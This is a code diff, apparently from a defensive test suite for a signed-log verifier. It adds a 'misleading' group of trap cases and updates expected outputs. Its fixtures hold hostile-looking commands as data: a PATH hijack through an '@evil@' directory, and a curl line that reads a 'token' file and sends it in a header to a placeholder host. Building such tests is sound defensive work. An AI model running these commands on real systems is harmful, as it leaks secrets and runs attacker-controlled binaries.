@@ -65,7 +65,10 @@ confirm = "one"
 "#;
 
 pub fn traps(stage: &Rc<Stage>) -> Vec<Trap> {
-    [against_the_rules(stage), brought(stage), deceiving(stage)].into_iter().flatten().collect()
+    [against_the_rules(stage), brought(stage), deceiving(stage), misleading(stage)]
+        .into_iter()
+        .flatten()
+        .collect()
 }
 
 /// The attacks of a trusted person that stock tools cannot see: chain and signatures are right.
@@ -126,14 +129,14 @@ fn brought(stage: &Rc<Stage>) -> Vec<Trap> {
             "command",
             json!({"argv": ["env", "helper"], "env": {"PATH": "@evil@:/bin:/usr/bin"}}),
             "PATH=\"$(jq -r '[..|.PATH? // empty][0]' run.jsonl)\" helper",
-            "with PATH=evil:/bin:/usr/bin",
+            "/evil:/bin:/usr/bin",
         ),
         trap(
             "a log that sends a secret elsewhere",
             "http",
             json!({"url": "@web@/", "headers": {"X-A": {"secret": {"file": "token"}}}}),
             "curl -s -H \"X-A: $(cat \"$(jq -r '[..|.file? // empty][0]' run.jsonl)\")\" @web@/",
-            "file token → @web@",
+            "/token → @web@",
         ),
         trap(
             "a log that writes elsewhere",
@@ -173,7 +176,7 @@ fn resealed(stage: &Stage, kind: &str, change: impl FnOnce(&mut Event)) -> Vec<u
     log.bytes()
 }
 
-/// Right in every signature, or in none, and not what it seems.
+/// The signatures of others, or of another version.
 fn deceiving(stage: &Rc<Stage>) -> Vec<Trap> {
     const READ: &str = "jq -e 'select(.kind == \"sealed\")' run.jsonl && touch @mark@";
     vec![
@@ -217,6 +220,12 @@ fn deceiving(stage: &Rc<Stage>) -> Vec<Trap> {
                 ("diff", "a log of another version"),
             ],
         ),
+    ]
+}
+
+/// Signed by whom it should be, and not what it seems.
+fn misleading(stage: &Rc<Stage>) -> Vec<Trap> {
+    vec![
         log(
             stage,
             "a fork",
